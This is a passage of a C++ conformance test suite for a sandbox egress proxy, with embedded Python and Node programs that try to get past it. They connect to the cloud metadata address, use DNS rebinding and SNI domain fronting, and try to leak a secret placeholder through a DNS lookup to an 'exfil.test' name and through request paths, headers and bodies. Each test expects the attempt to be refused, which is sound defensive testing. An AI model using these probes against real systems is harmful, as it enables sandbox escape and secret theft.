// Kind 13 — network by approval only: a run granted the network reaches its approved names
// through its egress proxy and nothing else. Origins are real loopback servers on the host
// (suite.hpp, `egress_origin`): the approved name and a second, pinned but unapproved name
// both point at them, so "it did not get through" is proved by the origins' own counters,
// not by the client's word.
#include <fmt/format.h>

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>
#include <string>

#include "conformance/suite.hpp"

using conformance::py;
using nlohmann::json;
using sandbox::code;

namespace {

/// A ticket granting `code.network` for `egress` at the backend's level (its ceiling has the
/// level's start-up allowance on top, as `backend::ticket`'s has).
sandbox::ticket network_ticket(const conformance::backend& b, std::vector<std::string> egress) {
  return sandbox::ticket_issuer{}
      .issue({.id = "egress",
              .tenant = "conformance",
              .isolation = b.profile().level,
              .max_timeout = std::chrono::milliseconds(8000) + conformance::startup_allowance(),
              .max_memory_bytes = 1ULL << 30,
              .egress = std::move(egress)},
             sandbox::network_grant{})
      .value();
}

/// A network request for the approved name, with the origins' certificate as input `ca.pem`;
/// its deadline has the level's start-up allowance on top (it runs through `rt()` directly).
sandbox::run_request network_request(conformance::backend& b, std::string source) {
  auto req =
      py(std::move(source), std::chrono::milliseconds(8000) + conformance::startup_allowance());
  req.network = true;
  req.egress = {conformance::egress_approved_name};
  req.files_in = {{.name = "ca.pem", .blob = b.put(conformance::egress_origin().ca_pem)}};
  return req;
}

/// The JSON document the program printed last on stdout.
json report_of(const sandbox::run_result& r) {
  const auto& s = r.std_out.summary;
  auto start = s.rfind("\n{");
  return json::parse(start == std::string::npos ? s : s.substr(start + 1), nullptr, false);
}

/// What the origins have seen so far, not counting the /stats requests that ask.
struct origin_counts {
  int http_connections = -1, https_connections = -1, https_requests = -1;
  bool operator==(const origin_counts&) const = default;
};
origin_counts origin_seen() {
  static int asked = 0;  // our own /stats connections (each counts itself)
  auto j = json::parse(conformance::egress_origin().stats(), nullptr, false);
  ++asked;
  if (!j.is_object()) return {};
  return {j["http"]["connections"].get<int>() - asked, j["https"]["connections"].get<int>(),
          j["https"]["requests"].get<int>()};
}

/// Python prelude: HTTP(S) through the environment's proxy with the origins' CA trusted;
/// `get(url)` returns [status, body-or-error].
std::string prelude() {
  const auto& o = conformance::egress_origin();
  return fmt::format(R"PY(
import json, os, socket, ssl, urllib.request, urllib.error
HTTP = 'http://{0}:{1}'
HTTPS = 'https://{0}:{2}'
OTHER_HTTPS = 'https://{3}:{2}'
OTHER_HTTP = 'http://{3}:{1}'
ctx = ssl.create_default_context(cafile=os.environ['SANDBOX_INPUT_DIR'] + '/ca.pem')
opener = urllib.request.build_opener(urllib.request.HTTPSHandler(context=ctx))
def get(url):
    try:
        with opener.open(url, timeout=5) as r:
            return [r.status, r.read().decode()]
    except urllib.error.HTTPError as e:
        return [e.code, e.read().decode(errors='replace')]
    except Exception as e:
        return [0, type(e).__name__ + ': ' + str(e)]
)PY",
                     conformance::egress_approved_name, o.http_port, o.https_port,
                     conformance::egress_other_name);
}

const sandbox::egress_attempt* find_attempt(const sandbox::run_result& r, const std::string& host,
                                            bool allowed) {
  for (const auto& a : r.egress_attempts) {
    if (a.host == host && a.allowed == allowed) return &a;
  }
  return nullptr;
}

std::string attempts_text(const sandbox::run_result& r) {
  std::string out;
  for (const auto& a : r.egress_attempts) {
    out +=
        fmt::format("{} host={} addr={} port={} allowed={} reason='{}' up={} down={}\n", a.protocol,
                    a.host, a.address, a.port, a.allowed, a.reason, a.bytes_up, a.bytes_down);
  }
  return out;
}

/// Skips (laptop) or fails (CI) when the origins could not start; true when they run.
bool origins_ready() {
  const auto& o = conformance::egress_origin();
  if (o.ok) return true;
  if (conformance::must_work()) FAIL("egress origins unavailable: " << o.why);
  WARN("egress origins unavailable, case skipped: " << o.why);
  return false;
}

}  // namespace

TEST_CASE("egress: an approved name is reachable over HTTPS and HTTP through the proxy only",
          "[egress][core]") {
  CONFORMANCE_BACKEND(b);
  if (!origins_ready()) return;
  auto req = network_request(b, prelude() + R"PY(
report = {'https': get(HTTPS + '/rates'), 'http': get(HTTP + '/echo'),
          'proxy': os.environ.get('HTTPS_PROXY')}
print(json.dumps(report))
)PY");
  auto r = b.rt().run(req, network_ticket(b, {conformance::egress_approved_name}));
  INFO("stdout: " << r.std_out.summary << "\nstderr: " << r.std_err.summary << "\nattempts:\n"
                  << attempts_text(r));
  if (!b.expect().egress_proxy) {
    // No proxy at this level: the run never starts (or ends without running the code).
    CHECK(r.code != code::ok);
    CHECK(r.std_out.summary.empty());
    return;
  }
  REQUIRE(r.code == code::ok);
  auto j = report_of(r);
  REQUIRE(j.is_object());
  CHECK(j["https"][0] == 200);
  CHECK(j["https"][1].get<std::string>().find("\"per_kg\": 1.75") != std::string::npos);
  CHECK(j["http"][0] == 200);
  // Plain HTTP: the origin saw the approved Host and an origin-form path.
  auto echo = json::parse(j["http"][1].get<std::string>(), nullptr, false);
  CHECK(echo["path"] == "/echo");
  CHECK(echo["host"].get<std::string>().rfind(conformance::egress_approved_name, 0) == 0);
  // Both are listed as allowed, with bytes both ways.
  const auto* https = find_attempt(r, conformance::egress_approved_name, true);
  REQUIRE(https != nullptr);
  int allowed = 0;
  for (const auto& a : r.egress_attempts) {
    if (!a.allowed) continue;
    ++allowed;
    CHECK(a.bytes_up > 0);
    CHECK(a.bytes_down > 0);
    CHECK(a.address == "127.0.0.1");
  }
  CHECK(allowed == 2);
}

TEST_CASE("egress: other names, direct IPs and in-sandbox DNS stay refused in a network run",
          "[egress][core]") {
  CONFORMANCE_BACKEND(b);
  if (!origins_ready()) return;
  if (!b.expect().egress_proxy) return;  // covered by the first case
  const auto before = origin_seen();
  const auto& o = conformance::egress_origin();
  auto req =
      network_request(b, prelude() + fmt::format(R"PY(
report = {{}}
report['other_https'] = get(OTHER_HTTPS + '/rates')
report['other_http'] = get(OTHER_HTTP + '/rates')
# A direct IP through the proxy (by hand: NO_PROXY keeps clients off it for loopback), and
# straight out (no proxy).
def connect_via_proxy(target):
    s = socket.create_connection(('127.0.0.1', 3128), timeout=5)
    s.sendall(b'CONNECT ' + target.encode() + b' HTTP/1.1\r\nHost: ' + target.encode() + b'\r\n\r\n')
    data = b''
    while True:
        chunk = s.recv(4096)
        if not chunk: break
        data += chunk
    s.close()
    return data.decode(errors='replace')
report['ip_via_proxy'] = connect_via_proxy('93.184.216.34:443')
def direct(addr, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((addr, port)); return 'connected'
    except OSError as e:
        return type(e).__name__
    finally:
        s.close()
report['direct_loopback'] = direct('127.0.0.1', {0})     # the run's own loopback: nothing there
report['direct_public'] = direct('93.184.216.34', 443)
report['direct_metadata'] = direct('169.254.169.254', 80)
try:
    socket.getaddrinfo('{1}', 443)
    report['dns'] = 'resolved'
except OSError as e:
    report['dns'] = type(e).__name__
print(json.dumps(report))
)PY",
                                                 o.https_port, conformance::egress_approved_name));
  auto r = b.rt().run(req, network_ticket(b, {conformance::egress_approved_name}));
  INFO("stdout: " << r.std_out.summary << "\nstderr: " << r.std_err.summary << "\nattempts:\n"
                  << attempts_text(r));
  REQUIRE(r.code == code::ok);
  auto j = report_of(r);
  REQUIRE(j.is_object());
  // Refused by the proxy with a reason the code can read (HTTPS: the tunnel's 403).
  CHECK(j["other_http"][0] == 403);
  CHECK(j["other_http"][1].get<std::string>().find("domain not approved") != std::string::npos);
  CHECK(j["other_https"][0] == 0);
  CHECK(j["other_https"][1].get<std::string>().find("403") != std::string::npos);
  CHECK(j["ip_via_proxy"].get<std::string>().rfind("HTTP/1.1 403", 0) == 0);
  CHECK(j["ip_via_proxy"].get<std::string>().find("direct IP not allowed") != std::string::npos);
  CHECK(j["direct_loopback"] != "connected");
  CHECK(j["direct_public"] != "connected");
  CHECK(j["direct_metadata"] != "connected");
  CHECK(j["dns"] != "resolved");
  // Nothing of it reached an origin.
  CHECK(origin_seen() == before);
  // Every attempt is listed, refused, with its reason.
  const auto* other = find_attempt(r, conformance::egress_other_name, false);
  REQUIRE(other != nullptr);
  CHECK(other->reason == "domain not approved");
  CHECK(other->bytes_up == 0);
  bool ip_refused = false, dns_listed = false;
  for (const auto& a : r.egress_attempts) {
    CHECK_FALSE(a.allowed);
    if (a.reason == "direct IP not allowed") ip_refused = true;
    if (a.protocol == "dns" && a.host == conformance::egress_approved_name) dns_listed = true;
  }
  CHECK(ip_refused);
  if (b.expect().egress_recorded) CHECK(dns_listed);
}

TEST_CASE("egress: a tunnel whose TLS SNI is not its CONNECT host carries nothing",
          "[egress][core]") {
  CONFORMANCE_BACKEND(b);
  if (!origins_ready()) return;
  if (!b.expect().egress_proxy) return;
  const auto before = origin_seen();
  // CONNECT to the approved name, then a real TLS handshake naming another host (the
  // domain-fronting shape an SNI check can see): the proxy closes before forwarding a byte.
  auto req = network_request(b, prelude() + fmt::format(R"PY(
def fronted(sni):
    s = socket.create_connection(('127.0.0.1', 3128), timeout=5)
    s.sendall(b'CONNECT {0}:{1} HTTP/1.1\r\nHost: {0}:{1}\r\n\r\n')
    head = b''
    while b'\r\n\r\n' not in head:
        chunk = s.recv(1)
        if not chunk: break
        head += chunk
    if not head.startswith(b'HTTP/1.1 200'):
        return 'refused: ' + head.decode(errors='replace')[:60]
    c = ssl.create_default_context(cafile=os.environ['SANDBOX_INPUT_DIR'] + '/ca.pem')
    c.check_hostname = False
    try:
        t = c.wrap_socket(s, server_hostname=sni)
        t.sendall(b'GET /rates HTTP/1.1\r\nHost: {0}\r\nConnection: close\r\n\r\n')
        return 'handshake ok: ' + t.recv(100).decode(errors='replace')
    except Exception as e:
        return 'closed: ' + type(e).__name__
print(json.dumps({{'fronted': fronted('{2}'), 'no_sni': fronted(None)}}))
)PY",
                                                        conformance::egress_approved_name,
                                                        conformance::egress_origin().https_port,
                                                        conformance::egress_other_name));
  auto r = b.rt().run(req, network_ticket(b, {conformance::egress_approved_name}));
  INFO("stdout: " << r.std_out.summary << "\nstderr: " << r.std_err.summary << "\nattempts:\n"
                  << attempts_text(r));
  REQUIRE(r.code == code::ok);
  auto j = report_of(r);
  REQUIRE(j.is_object());
  CHECK(j["fronted"].get<std::string>().rfind("closed", 0) == 0);
  CHECK(j["no_sni"].get<std::string>().rfind("closed", 0) == 0);
  // Not a byte of the handshakes reached the origin: no request was ever made (the proxy may
  // have opened the TCP connection to the approved origin before it saw the ClientHello).
  CHECK(origin_seen().https_requests == before.https_requests);
  int mismatches = 0;
  for (const auto& a : r.egress_attempts) {
    CHECK_FALSE(a.allowed);
    if (a.reason == "SNI does not match CONNECT host" || a.reason == "no SNI") ++mismatches;
  }
  CHECK(mismatches == 2);
}

TEST_CASE("egress: the run's connection and byte budgets hold", "[egress][core]") {
  CONFORMANCE_BACKEND(b);
  if (!origins_ready()) return;
  if (!b.expect().egress_proxy) return;
  auto req = network_request(b, prelude() + fmt::format(R"PY(
big = get(HTTP + '/bytes/{0}')
statuses = [get(HTTP + '/rates')[0] for _ in range({1})]
print(json.dumps({{'big_len': len(big[1]) if big[0] == 200 else -1, 'big_status': big[0],
                  'statuses': statuses}}))
)PY",
                                                        4 * conformance::egress_max_bytes_down,
                                                        conformance::egress_max_connections + 2));
  auto r = b.rt().run(req, network_ticket(b, {conformance::egress_approved_name}));
  INFO("stdout: " << r.std_out.summary << "\nstderr: " << r.std_err.summary << "\nattempts:\n"
                  << attempts_text(r));
  REQUIRE(r.code == code::ok);
  auto j = report_of(r);
  REQUIRE(j.is_object());
  // The download was cut at the byte budget (never delivered in full).
  CHECK(j["big_len"].get<long long>() <
        static_cast<long long>(4 * conformance::egress_max_bytes_down));
  std::uint64_t down = 0;
  bool byte_limit = false;
  int conn_limit = 0;
  for (const auto& a : r.egress_attempts) {
    down += a.bytes_down;
    if (a.reason == "byte limit") byte_limit = true;
    if (a.reason == "connection limit") ++conn_limit;
  }
  CHECK(byte_limit);
  CHECK(down <= conformance::egress_max_bytes_down + 65536);
  // The first request used one connection; past the budget, new connections get 403.
  int refused = 0;
  for (const auto& s : j["statuses"]) refused += s == 403 ? 1 : 0;
  CHECK(refused >= 2);
  CHECK(conn_limit + static_cast<int>(r.egress_attempts_dropped) >= 2);
}

TEST_CASE("egress: Node's https, http and fetch use the proxy (the image's preload)",
          "[egress][core][node]") {
  CONFORMANCE_BACKEND(b);
  if (!origins_ready()) return;
  if (!b.expect().egress_proxy) return;
  const auto& o = conformance::egress_origin();
  auto req = conformance::js(fmt::format(R"JS(
const https = require('https'), http = require('http'), fs = require('fs');
const ca = fs.readFileSync(process.env.SANDBOX_INPUT_DIR + '/ca.pem');
function get(mod, url, opts) {{
  return new Promise((resolve) => {{
    mod.get(url, opts || {{}}, (res) => {{
      let body = '';
      res.on('data', (d) => body += d);
      res.on('end', () => resolve([res.statusCode, body]));
    }}).on('error', (e) => resolve([0, String(e.message)]));
  }});
}}
(async () => {{
  const report = {{}};
  report.https = await get(https, 'https://{0}:{2}/rates', {{ca}});
  report.http = await get(http, 'http://{0}:{1}/rates');
  try {{
    const r = await fetch('http://{0}:{1}/rates');
    report.fetch = [r.status, await r.text()];
  }} catch (e) {{ report.fetch = [0, String(e.cause || e)]; }}
  try {{
    const r = await fetch('http://{3}:{1}/rates');
    report.fetch_denied = [r.status, await r.text()];
  }} catch (e) {{ report.fetch_denied = [0, String(e.cause || e)]; }}
  report.https_denied = await get(https, 'https://{3}:{2}/rates', {{ca}});
  console.log(JSON.stringify(report));
}})();
)JS",
                                         conformance::egress_approved_name, o.http_port,
                                         o.https_port, conformance::egress_other_name),
                             std::chrono::milliseconds(8000) + conformance::startup_allowance());
  req.network = true;
  req.egress = {conformance::egress_approved_name};
  req.files_in = {{.name = "ca.pem", .blob = b.put(o.ca_pem)}};
  auto r = b.rt().run(req, network_ticket(b, {conformance::egress_approved_name}));
  INFO("stdout: " << r.std_out.summary << "\nstderr: " << r.std_err.summary << "\nattempts:\n"
                  << attempts_text(r));
  REQUIRE(r.code == code::ok);
  auto j = report_of(r);
  REQUIRE(j.is_object());
  CHECK(j["https"][0] == 200);
  CHECK(j["https"][1].get<std::string>().find("\"per_kg\": 1.75") != std::string::npos);
  CHECK(j["http"][0] == 200);
  CHECK(j["fetch"][0] == 200);
  CHECK(j["fetch_denied"][0] == 403);
  CHECK(j["https_denied"][0] == 0);
  CHECK(j["https_denied"][1].get<std::string>().find("domain not approved") != std::string::npos);
  int allowed = 0, denied = 0;
  for (const auto& a : r.egress_attempts) (a.allowed ? allowed : denied) += 1;
  CHECK(allowed == 3);
  CHECK(denied == 2);
}

TEST_CASE("egress: approved names that resolve to loopback or metadata addresses are refused",
          "[egress][core]") {
  CONFORMANCE_BACKEND(b);
  if (!origins_ready()) return;
  if (!b.expect().egress_proxy) return;
  const auto before = origin_seen();
  const auto& o = conformance::egress_origin();
  // Even approved, a name whose DNS answer is internal (rebinding) never gets a connection.
  auto req = network_request(
      b, prelude() + fmt::format(R"PY(
print(json.dumps({{'rebind': get('http://{0}:{2}/rates'),
                  'rebind_https': get('https://{0}:{3}/rates'),
                  'metadata': get('http://{1}/latest/meta-data/')}}))
)PY",
                                 conformance::egress_rebind_name, conformance::egress_metadata_name,
                                 o.http_port, o.https_port));
  const std::vector<std::string> names = {conformance::egress_approved_name,
                                          conformance::egress_rebind_name,
                                          conformance::egress_metadata_name};
  req.egress = names;
  auto r = b.rt().run(req, network_ticket(b, names));
  INFO("stdout: " << r.std_out.summary << "\nstderr: " << r.std_err.summary << "\nattempts:\n"
                  << attempts_text(r));
  REQUIRE(r.code == code::ok);
  auto j = report_of(r);
  REQUIRE(j.is_object());
  CHECK(j["rebind"][0] == 403);
  CHECK(j["rebind"][1].get<std::string>().find("address refused: loopback") != std::string::npos);
  CHECK(j["rebind_https"][0] == 0);
  CHECK(j["rebind_https"][1].get<std::string>().find("403") != std::string::npos);
  CHECK(j["metadata"][0] == 403);
  CHECK(j["metadata"][1].get<std::string>().find("address refused: metadata") != std::string::npos);
  CHECK(origin_seen() == before);
  int refused = 0;
  for (const auto& a : r.egress_attempts) {
    CHECK_FALSE(a.allowed);
    if (a.reason.rfind("address refused", 0) == 0) ++refused;
  }
  CHECK(refused == 3);
}

TEST_CASE("egress: a secret is only a placeholder inside, refused wherever it may not go",
          "[egress][secrets][core]") {
  CONFORMANCE_BACKEND(b);
  if (!origins_ready()) return;
  if (!b.expect().egress_proxy) return;  // covered by the first case
  const auto before = origin_seen();
  auto req = network_request(b, prelude() + fmt::format(R"PY(
ph = os.environ.get('SANDBOX_SECRET_RATES_API', '')
report = {{'placeholder': ph}}
# 1. A name carrying it, looked up inside (the DNS sink) and asked of the proxy.
try:
    socket.getaddrinfo(ph[-32:] + '.exfil.test', 443)
    report['dns'] = 'resolved'
except OSError as e:
    report['dns'] = type(e).__name__
report['https_name'] = get('https://' + ph[-32:] + '.{0}:{1}/rates')
# 2. To the secret's own name, but in a path, another header and a body (plain HTTP: the
#    proxy reads it in clear).
report['path'] = get(HTTP + '/echo?key=' + ph)
def send(req):
    try:
        with opener.open(req, timeout=5) as r:
            return [r.status, r.read().decode()]
    except urllib.error.HTTPError as e:
        return [e.code, e.read().decode(errors='replace')]
    except Exception as e:
        return [0, type(e).__name__ + ': ' + str(e)]
report['header'] = send(urllib.request.Request(HTTP + '/echo', headers={{'X-Api-Key': ph}}))
report['body'] = send(urllib.request.Request(HTTP + '/echo', data=('k=' + ph).encode()))
# 3. Without it, the same name still answers.
report['clean'] = get(HTTP + '/echo')
print(json.dumps(report))
)PY",
                                                        conformance::egress_approved_name,
                                                        conformance::egress_origin().https_port));
  req.secrets = {conformance::secret_name};
  auto ticket_spec = sandbox::ticket_spec{
      .id = "egress-secret",
      .tenant = "conformance",
      .isolation = b.profile().level,
      .max_timeout = std::chrono::milliseconds(8000) + conformance::startup_allowance(),
      .max_memory_bytes = 1ULL << 30,
      .egress = {conformance::egress_approved_name}};
  ticket_spec.secrets = {conformance::secret_name};
  auto r = b.rt().run(
      req, sandbox::ticket_issuer{}.issue(ticket_spec, sandbox::network_grant{}).value());
  INFO("stdout: " << r.std_out.summary << "\nstderr: " << r.std_err.summary << "\nattempts:\n"
                  << attempts_text(r));
  REQUIRE(r.code == code::ok);
  auto j = report_of(r);
  REQUIRE(j.is_object());
  // The program holds a per-run placeholder, never the value.
  const std::string ph = j["placeholder"].get<std::string>();
  CHECK(ph.size() == 43);
  CHECK(ph.rfind("sbx-secret-", 0) == 0);
  const std::string value = conformance::secret_value;
  CHECK(b.blob(r.std_out.blob).find(value) == std::string::npos);
  CHECK(b.blob(r.std_err.blob).find(value) == std::string::npos);
  CHECK(sandbox::encode(r).find(value) == std::string::npos);
  // Each misuse is refused with the reason, the 403 body saying what would be allowed.
  CHECK(j["dns"] != "resolved");
  CHECK(j["https_name"][0] == 0);
  CHECK(j["https_name"][1].get<std::string>().find("403") != std::string::npos);
  for (const char* k : {"path", "header", "body"}) {
    CAPTURE(k);
    CHECK(j[k][0] == 403);
    CHECK(j[k][1].get<std::string>().find("secret_misuse") != std::string::npos);
  }
  CHECK(j["clean"][0] == 200);
  // The origins' own counters: only the clean request arrived.
  auto seen = origin_seen();
  CHECK(seen.https_connections == before.https_connections);
  CHECK(seen.https_requests == before.https_requests);
  CHECK(seen.http_connections == before.http_connections + 1);
  // And the record says so: the CONNECT name and the plain-HTTP requests (path, header and
  // body give equal records, listed once and counted as dropped), and the DNS query.
  int https_misuse = 0, http_misuse = 0, dns_misuse = 0;
  for (const auto& a : r.egress_attempts) {
    if (a.reason != "secret_misuse") continue;
    CHECK_FALSE(a.allowed);
    CHECK(a.bytes_up == 0);
    (a.protocol == "dns" ? dns_misuse : a.protocol == "https" ? https_misuse : http_misuse) += 1;
  }
  CHECK(https_misuse == 1);
  CHECK(http_misuse == 1);
  CHECK(r.egress_attempts_dropped >= 2);
  CHECK(dns_misuse >= 1);
}

TEST_CASE("egress: with a secret, HTTPS is terminated, the value injected and echoes redacted",
          "[egress][secrets][core]") {
  CONFORMANCE_BACKEND(b);
  if (!origins_ready()) return;
  if (!b.expect().egress_proxy) return;  // covered by the first case
  const auto& o = conformance::egress_origin();
  const auto before = json::parse(o.stats(), nullptr, false);
  REQUIRE(before.is_object());
  // Ordinary urllib: no context of its own, the trust store is what the environment names.
  auto req = network_request(b, fmt::format(R"PY(
import json, os, urllib.request, urllib.error
ph = os.environ.get('SANDBOX_SECRET_RATES_API', '')
U = 'https://{0}:{1}'
def call(url, headers=None, data=None):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers or {{}},
                                                           data=data), timeout=10) as r:
            return [r.status, r.headers.get('X-Echo', ''), r.read().decode()]
    except urllib.error.HTTPError as e:
        return [e.code, '', e.read().decode(errors='replace')]
    except Exception as e:
        return [0, '', type(e).__name__ + ': ' + str(e)]
report = {{'env': {{k: os.environ.get(k, '') for k in
                  ('SSL_CERT_FILE', 'REQUESTS_CA_BUNDLE', 'CURL_CA_BUNDLE', 'NODE_EXTRA_CA_CERTS')}}}}
report['auth'] = call(U + '/auth', {{'Authorization': 'Bearer ' + ph}})
report['path'] = call(U + '/echo?key=' + ph)
report['header'] = call(U + '/echo', {{'X-Api-Key': ph}})
report['body'] = call(U + '/echo', {{}}, ('k=' + ph).encode())
report['wrong_cert'] = call('https://{2}:{1}/auth', {{'Authorization': 'Bearer ' + ph}})
with open(os.path.join(os.environ['SANDBOX_OUTPUT_DIR'], 'echo.json'), 'w') as f:
    json.dump(report['auth'], f)
print(json.dumps(report))
)PY",
                                            conformance::egress_approved_name, o.https_port,
                                            conformance::egress_wrong_cert_name));
  req.egress = {conformance::egress_approved_name, conformance::egress_wrong_cert_name};
  req.secrets = {conformance::secret_name};
  auto ticket_spec = sandbox::ticket_spec{
      .id = "egress-secret-tls",
      .tenant = "conformance",
      .isolation = b.profile().level,
      .max_timeout = std::chrono::milliseconds(8000) + conformance::startup_allowance(),
      .max_memory_bytes = 1ULL << 30,
      .egress = {conformance::egress_approved_name, conformance::egress_wrong_cert_name}};
  ticket_spec.secrets = {conformance::secret_name};
  auto r = b.rt().run(
      req, sandbox::ticket_issuer{}.issue(ticket_spec, sandbox::network_grant{}).value());
  INFO("stdout: " << r.std_out.summary << "\nstderr: " << r.std_err.summary << "\nattempts:\n"
                  << attempts_text(r));
  REQUIRE(r.code == code::ok);
  auto j = report_of(r);
  REQUIRE(j.is_object());
  const std::string value = conformance::secret_value;
  for (const char* k :
       {"SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "NODE_EXTRA_CA_CERTS"}) {
    CHECK(j["env"][k] == "/tmp/sandbox-run-ca.pem");
  }
  // The origin's own log: the value arrived in the configured header.
  const auto after = json::parse(o.stats(), nullptr, false);
  REQUIRE(after.is_object());
  const auto& auth_log = after["https"]["auth"];
  REQUIRE(auth_log.size() == before["https"]["auth"].size() + 1);
  CHECK(auth_log.back() == "Bearer " + value);
  // Its echo (a header and the body) reached the program as the placeholder.
  const std::string echoed = j["auth"][1].get<std::string>();
  CHECK(j["auth"][0] == 200);
  CHECK(echoed.size() == 7 + 43);
  CHECK(echoed.rfind("Bearer sbx-secret-", 0) == 0);
  CHECK(j["auth"][2].get<std::string>().find(echoed) != std::string::npos);
  // A placeholder anywhere else inside HTTPS is refused, none of it reaching the origin.
  for (const char* k : {"path", "header", "body"}) {
    CAPTURE(k);
    CHECK(j[k][0] == 403);
    CHECK(j[k][2].get<std::string>().find("secret_misuse") != std::string::npos);
  }
  CHECK(after["https"]["requests"].get<int>() == before["https"]["requests"].get<int>() + 1);
  // An origin whose certificate does not name it: refused, with the reason.
  CHECK(j["wrong_cert"][0] == 403);
  CHECK(j["wrong_cert"][2].get<std::string>().find("origin_unverified") != std::string::npos);
  int misuse = 0, unverified = 0;
  for (const auto& a : r.egress_attempts) {
    if (a.reason == "secret_misuse") ++misuse;
    if (a.reason == "origin_unverified") ++unverified;
  }
  CHECK(misuse + static_cast<int>(r.egress_attempts_dropped) >= 3);
  CHECK(unverified + static_cast<int>(r.egress_attempts_dropped) >= 1);
  // The value is in nothing that came back: streams, output files, the result.
  CHECK(b.blob(r.std_out.blob).find(value) == std::string::npos);
  CHECK(b.blob(r.std_err.blob).find(value) == std::string::npos);
  REQUIRE(r.files_out.size() == 1);
  CHECK(b.blob(r.files_out[0].blob).find(value) == std::string::npos);
  CHECK(sandbox::encode(r).find(value) == std::string::npos);
  // Nor in the host's log lines or spans (the run's span is there by now).
  const std::string host = conformance::host_log_and_spans();
  CHECK(host.find("sandbox.run") != std::string::npos);
  CHECK(host.find(value) == std::string::npos);
}

TEST_CASE("egress: Node's fetch and https with a secret trust the run's CA unchanged",
          "[egress][secrets][core][node]") {
  CONFORMANCE_BACKEND(b);
  if (!origins_ready()) return;
  if (!b.expect().egress_proxy) return;
  const auto& o = conformance::egress_origin();
  const auto before = json::parse(o.stats(), nullptr, false);
  REQUIRE(before.is_object());
  // No `ca` option anywhere: NODE_EXTRA_CA_CERTS is what makes the run's CA trusted.
  auto req =
      conformance::js(fmt::format(R"JS(
const https = require('https');
const ph = process.env.SANDBOX_SECRET_RATES_API || '';
const auth = {{ Authorization: 'Bearer ' + ph }};
function get(url, headers) {{
  return new Promise((resolve) => {{
    https.get(url, {{ headers }}, (res) => {{
      let body = '';
      res.on('data', (d) => body += d);
      res.on('end', () => resolve([res.statusCode, body]));
    }}).on('error', (e) => resolve([0, String(e.message)]));
  }});
}}
(async () => {{
  const report = {{}};
  report.https = await get('https://{0}:{1}/auth', auth);
  try {{
    const r = await fetch('https://{0}:{1}/auth', {{ headers: auth }});
    report.fetch = [r.status, await r.text()];
  }} catch (e) {{ report.fetch = [0, String(e.cause || e)]; }}
  console.log(JSON.stringify(report));
}})();
)JS",
                                  conformance::egress_approved_name, o.https_port),
                      std::chrono::milliseconds(8000) + conformance::startup_allowance("node"));
  req.network = true;
  req.egress = {conformance::egress_approved_name};
  req.secrets = {conformance::secret_name};
  auto ticket_spec = sandbox::ticket_spec{
      .id = "egress-secret-node",
      .tenant = "conformance",
      .isolation = b.profile().level,
      .max_timeout = std::chrono::milliseconds(8000) + conformance::startup_allowance("node"),
      .max_memory_bytes = 1ULL << 30,
      .egress = {conformance::egress_approved_name}};
  ticket_spec.secrets = {conformance::secret_name};
  auto r = b.rt().run(
      req, sandbox::ticket_issuer{}.issue(ticket_spec, sandbox::network_grant{}).value());
  INFO("stdout: " << r.std_out.summary << "\nstderr: " << r.std_err.summary << "\nattempts:\n"
                  << attempts_text(r));
  REQUIRE(r.code == code::ok);
  auto j = report_of(r);
  REQUIRE(j.is_object());
  const std::string value = conformance::secret_value;
  for (const char* k : {"https", "fetch"}) {
    CAPTURE(k);
    CHECK(j[k][0] == 200);
    CHECK(j[k][1].get<std::string>().find("Bearer sbx-secret-") != std::string::npos);
  }
  const auto after = json::parse(o.stats(), nullptr, false);
  REQUIRE(after.is_object());
  const auto& auth_log = after["https"]["auth"];
  REQUIRE(auth_log.size() >= before["https"]["auth"].size() + 2);
  CHECK(auth_log[auth_log.size() - 1] == "Bearer " + value);
  CHECK(auth_log[auth_log.size() - 2] == "Bearer " + value);
  CHECK(b.blob(r.std_out.blob).find(value) == std::string::npos);
  CHECK(b.blob(r.std_err.blob).find(value) == std::string::npos);
  CHECK(sandbox::encode(r).find(value) == std::string::npos);
}

// ---------------------------------------------------------------------------------------------
// L7 rules (ticket_spec::egress_rules): per request, inside HTTPS (the run's CA terminates its
// tunnels) and in plain HTTP, against the origins' own request logs.

namespace {

/// A network ticket for the approved name with one L7 rule: GET under /v1/rates/, at most
/// `max_requests` requests in the run.
sandbox::ticket ruled_ticket(const conformance::backend& b, std::uint64_t max_requests) {
  auto spec = sandbox::ticket_spec{
      .id = "egress-rules",
      .tenant = "conformance",
      .isolation = b.profile().level,
      .max_timeout = std::chrono::milliseconds(8000) + conformance::startup_allowance(),
      .max_memory_bytes = 1ULL << 30,
      .egress = {conformance::egress_approved_name}};
  spec.egress_rules = {sandbox::egress_rule{.name = "rates-read",
                                            .host = conformance::egress_approved_name,
                                            .methods = {"GET"},
                                            .paths = {"/v1/rates/"},
                                            .max_requests = max_requests}};
  return sandbox::ticket_issuer{}.issue(spec, sandbox::network_grant{}).value();
}

/// Python prelude for the rule cases: no CA of its own (the run's trust store is its CA).
/// `tunnel()` is one HTTPS connection through the proxy (requests on it kept alive),
/// `send(conn, method, path)` one request on it, `plain(method, path)` one plain-HTTP request:
/// each returns [status, body-or-error].
std::string rules_prelude() {
  const auto& o = conformance::egress_origin();
  return fmt::format(R"PY(
import http.client, json, os, ssl, urllib.request, urllib.error
HOST, HTTPS_PORT, HTTP_PORT = '{0}', {1}, {2}
def tunnel():
    c = http.client.HTTPSConnection('127.0.0.1', 3128, timeout=10,
                                    context=ssl.create_default_context())
    c.set_tunnel(HOST, HTTPS_PORT)
    return c
def send(c, method, path):
    try:
        c.request(method, path, body=b'{{}}' if method == 'POST' else None)
        r = c.getresponse()
        return [r.status, r.read().decode(errors='replace')]
    except Exception as e:
        return [0, type(e).__name__ + ': ' + str(e)]
def plain(method, path):
    req = urllib.request.Request('http://%s:%d%s' % (HOST, HTTP_PORT, path), method=method,
                                 data=b'{{}}' if method == 'POST' else None)
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return [r.status, r.read().decode(errors='replace')]
    except urllib.error.HTTPError as e:
        return [e.code, e.read().decode(errors='replace')]
    except Exception as e:
        return [0, type(e).__name__ + ': ' + str(e)]
)PY",
                     conformance::egress_approved_name, o.https_port, o.http_port);
}

/// The requests each origin logged ("METHOD path") since `before` (a /stats document).
std::vector<std::string> logged_since(const json& before, const json& after, const char* kind) {
  std::vector<std::string> out;
  const auto& b = before[kind]["log"];
  const auto& a = after[kind]["log"];
